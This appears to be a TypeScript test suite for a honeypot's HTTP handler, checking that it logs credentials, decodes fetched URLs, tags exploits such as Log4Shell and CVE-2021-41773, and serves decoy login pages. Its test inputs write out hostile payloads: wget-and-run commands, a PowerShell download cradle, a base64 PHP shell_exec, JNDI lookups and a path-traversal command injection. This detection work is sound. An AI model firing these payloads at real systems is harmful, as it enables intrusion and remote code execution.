// biome-ignore-all lint/suspicious/noTemplateCurlyInString: Log4j's look-ups
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { testPersona } from '../testing/persona.ts'
import { play } from '../testing/play.ts'
import { apps } from './bait.ts'
import { formFields, multipart } from './forms.ts'
import http from './index.ts'
import { makeSite } from './site.ts'

const say = async (text: string, options: unknown = { bait: ['admin'] }) => {
  const played = await play(http, [Buffer.from(text, 'latin1')], { options })
  const of = (name: string) => played.events.filter(e => e.name === name).map(e => e.details as Record<string, unknown>)
  return { heard: played.heard.toString('latin1'), of, events: played.events }
}
const post = (path: string, type: string, body: string) =>
  `POST ${path} HTTP/1.1\r\nHost: h\r\nContent-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body, 'latin1')}\r\nConnection: close\r\n\r\n${body}`

describe('what is written down', () => {
  test('credentials, however they are sent', async () => {
    const form = 'application/x-www-form-urlencoded'
    const multi =
      '--B\r\nContent-Disposition: form-data; name="user"\r\n\r\nm\r\n--B\r\nContent-Disposition: form-data; name="pass"\r\n\r\nn\r\n--B--\r\n'
    const xml =
      '<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>x</value></param><param><value>y</value></param></params></methodCall>'
    const table: [sent: string, login: object][] = [
      [
        'GET / HTTP/1.1\r\nHost: h\r\nAuthorization: Basic cm9vdDphOmI=\r\n\r\n',
        { method: 'basic', user: 'root', password: 'a:b' },
      ],
      ['GET / HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer t0k\r\n\r\n', { method: 'bearer', password: 't0k' }],
      ['GET /l.cgi?loginuser=a&loginpass=b HTTP/1.1\r\nHost: h\r\n\r\n', { method: 'query', user: 'a', password: 'b' }],
      [
        post('/boaform/admin/formLogin', form, 'challenge=&username=u&psd=p%26w&verification_code='),
        { method: 'form', user: 'u', password: 'p&w' },
      ],
      [
        post('/wp-login.php', form, 'log=admin&pwd=x&wp-submit=Log+In'),
        { method: 'form', user: 'admin', password: 'x' },
      ],
      [
        post('/api', 'application/json', '{"data":{"email":"a@b.example","password":"q"}}'),
        { method: 'json', user: 'a@b.example', password: 'q' },
      ],
      [post('/x', 'multipart/form-data; boundary=B', multi), { method: 'form', user: 'm', password: 'n' }],
      [post('/xmlrpc.php', 'text/xml', xml), { method: 'xmlrpc', user: 'x', password: 'y' }],
    ]
    for (const [sent, login] of table) {
      const { of } = await say(sent)
      assert.deepEqual(of('login'), [{ ...login, outcome: 'failure' }], sent.slice(0, 60))
    }
  })

  test('what is to be fetched, told in base64', async () => {
    const order = 'wget http://192.0.2.7/x -O /tmp/x;sh /tmp/x'
    const coded = Buffer.from(order).toString('base64')
    const wide = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.7/x")', 'utf16le')
    const urls = async (sent: string) => (await say(sent)).of('fileDownload').map(({ url }) => url)
    for (const sent of [
      `GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=${encodeURIComponent(coded)} HTTP/1.1\r\nHost: h\r\n\r\n`,
      post('/a.php', 'text/plain', `<?php shell_exec(base64_decode("${coded}"));`),
      post('/a.jsp', 'application/x-www-form-urlencoded', `cmd=${encodeURIComponent(coded)}`),
      post('/a.aspx', 'text/plain', `powershell -enc ${wide.toString('base64')}`),
      post('/a.php', 'text/plain', Buffer.from(order).toString('hex')),
    ])
      assert.deepEqual(await urls(sent), ['http://192.0.2.7/x'], sent.slice(0, 60))
    const plain = Buffer.from('see http://192.0.2.7/x for more').toString('base64')
    assert.deepEqual(await urls(post('/a', 'text/plain', plain)), [], 'a link is none')
  })

  test('a request that is turned away, as far as it can be read', async () => {
    const { of, heard } = await say('GET /a b HTTP/1.1\r\nHost: h\r\nX: ${jndi:ldap://192.0.2.1/a}\r\n\r\n')
    assert.match(heard, /^HTTP\/1.1 400 /)
    assert.equal(of('request')[0]!.status, 400)
    assert.equal(of('exploit')[0]!.id, 'CVE-2021-44228')
  })

  test('what is no HTTP at all', async () => {
    const { of } = await say('\x16\x03\x01\x00\x05\x01\x00\x00\x01\x03')
    assert.equal(of('request').length, 0)
    assert.equal(of('malformed')[0]!.bytes, '\x16\x03\x01\x00\x05\x01\x00\x00\x01\x03')
  })

  test('a head that was never finished', async () => {
    const { of, heard } = await say('GET /half HTTP/1.1\r\nHost: h\r\nX-')
    assert.equal(heard, '')
    assert.deepEqual([of('request')[0]!.status, (of('request')[0]!.url as { path: string }).path], [0, '/half'])
  })

  test('a file that is put or uploaded', async () => {
    const put = await say('PUT /x.jsp HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\n\r\n<%%>')
    assert.equal(put.of('fileUpload')[0]!.path, '/x.jsp')
    const long = 'y'.repeat(40_000)
    const body = `--B\r\nContent-Disposition: form-data; name="f"; filename="big.bin"\r\n\r\n${long}\r\n--B--\r\n`
    const upload = await say(post('/u', 'multipart/form-data; boundary=B', body))
    assert.equal(upload.of('fileUpload')[0]!.path, 'big.bin')
    assert.equal((upload.of('request')[0]!.sample as { size: number }).size, body.length)
  })

  test('nothing of an ordinary visit but the visit', async () => {
    const { events } = await say(
      'GET /index.html?page=2&sort=name HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0\r\n' +
        'Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\nReferer: http://h/search?q=curl\r\nCookie: a=b; c=d\r\n\r\n',
    )
    assert.deepEqual(
      events.map(e => e.name),
      ['request'],
    )
  })
})

test('known attacks, and who counts machines', async () => {
  const attack = await say(
    'GET /cgi-bin/.%2e/%2e%2e/bin/sh?x=1;wget+192.0.2.1/mips HTTP/1.1\r\nHost: h\r\nUser-Agent: ${${lower:j}ndi:ldap://192.0.2.1:1389/x}\r\nReferer: http://h/a\r\n\r\n',
  )
  const ids = attack.of('exploit').map(({ id }) => id)
  assert.deepEqual(
    ids.toSorted(),
    ['COMMAND-INJECTION', 'CVE-2021-41773', 'CVE-2021-44228', 'PATH-TRAVERSAL'].toSorted(),
  )
  assert.deepEqual(attack.of('request')[0]!.tags, ['exploit', ...ids])
  assert.deepEqual(
    attack.of('fileDownload').map(({ url, tool }) => [url, tool]),
    [
      ['http://192.0.2.1/mips', 'wget'],
      ['ldap://192.0.2.1:1389/x', 'jndi'],
    ],
  )
  const count = await say('GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n')
  assert.deepEqual([count.of('request')[0]!.tags, count.of('exploit')], [['scanner', 'ZGRAB'], []])
})

test('forms that are broken still give what they have', () => {
  assert.deepEqual(formFields(Buffer.from('{"a":'), 'application/json'), [])
  assert.deepEqual(multipart(Buffer.from('--B\r\nno end'), 'multipart/form-data; boundary=B'), [])
  const cut = multipart(
    Buffer.from('--B\r\nContent-Disposition: x; name="f"; filename="a"\r\n\r\nabc'),
    'multipart/x; boundary=B',
  )
  assert.deepEqual(
    cut.map(p => [p.name, p.filename, p.data.toString()]),
    [['f', 'a', 'abc']],
  )
  assert.equal(formFields(Buffer.from('a=b&'.repeat(5000)), '').length, 200)
})

describe('bait', () => {
  test('is never the same constant on two machines', () => {
    const seeds = Array.from({ length: 40 }, (_, i) =>
      makeSite({ ...testPersona, derive: (_label, n) => Buffer.alloc(n, i * 6) }, {}),
    )
    const realms = seeds.map(site => site.find('/admin/')).map(found => (found?.kind === 'guarded' ? found.realm : ''))
    assert.ok(new Set(realms).size > 2)
    assert.ok(
      new Set(seeds.map(site => [...apps.values()].map(app => site.find(app.paths[0]!) !== undefined).join())).size > 1,
    )
  })
  for (const [name, { paths, root }] of apps)
    test(`${name} answers at its paths under either server, and escapes what it repeats`, async () => {
      for (const path of paths) {
        const body = 'log=%3Cb%3E&pwd=x&pma_username=%3Cb%3E&pma_password=y&username=%3Cb%3E&password=z'
        const { heard } = await say(post(path, 'application/x-www-form-urlencoded', body), { bait: [name] })
        assert.match(heard, /^HTTP\/1.1 (?:200 OK|302 Moved Temporarily)\r\n/)
        assert.doesNotMatch(heard, /<b>/)
        assert.match(heard, /\r\n0\r\n\r\n$/)
      }
      const robots = await say('GET /robots.txt HTTP/1.1\r\nHost: h\r\n\r\n', { bait: [name] })
      assert.ok(robots.heard.includes(`Disallow: ${root}`))
      const slash = await say(`GET ${root.slice(0, -1)} HTTP/1.1\r\nHost: h\r\n\r\n`, { bait: [name] })
      assert.match(slash.heard, new RegExp(`^HTTP/1.1 301 Moved Permanently\r\n[\\s\\S]*Location: http://h${root}\r\n`))
    })
})
